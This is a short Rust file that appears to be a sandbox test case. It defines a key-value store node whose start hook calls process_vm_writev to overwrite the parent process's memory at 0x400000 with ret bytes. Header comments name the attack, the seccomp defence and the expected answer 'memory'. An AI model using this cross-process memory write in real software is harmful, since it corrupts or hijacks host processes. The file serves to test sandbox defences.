//! An attack: the parent's memory is written over.
// defence: other processes are out of reach (seccomp)
// answer: memory
#[derive(Clone, Debug, Default)]
struct Store {
    kept: std::collections::BTreeMap<u32, u32>,
}

unsafe extern "C" {
    fn process_vm_writev(process: u32, from: *const usize, count: usize, to: *const usize, count_there: usize, flags: usize) -> isize;
}

impl Node for Store {
    type Message = ();
    type Timer = ();

    fn on_start(&mut self, ctx: &mut Context<Self>) {
        let _ = ctx;
        let bytes = [0xc3_u8; 64]; let from = [bytes.as_ptr() as usize, 64]; let to = [0x400000_usize, 64]; unsafe { process_vm_writev(std::os::unix::process::parent_id(), from.as_ptr(), 1, to.as_ptr(), 1, 0) };
    }
}

impl Service for Store {
    type Request = Ask;
    type Response = Answered;

    fn on_request(&mut self, call: CallId, ask: Ask, ctx: &mut Context<Self>) {
        
        match ask {
            Ask::Put { key, value } => {
                self.kept.insert(key, value);
                ctx.reply(call, Answered::Stored);
            }
            Ask::Get { key } => {
                let value = self.kept.get(&key).copied();
                ctx.reply(call, Answered::Value(value));
            }
        }
        
    }
}
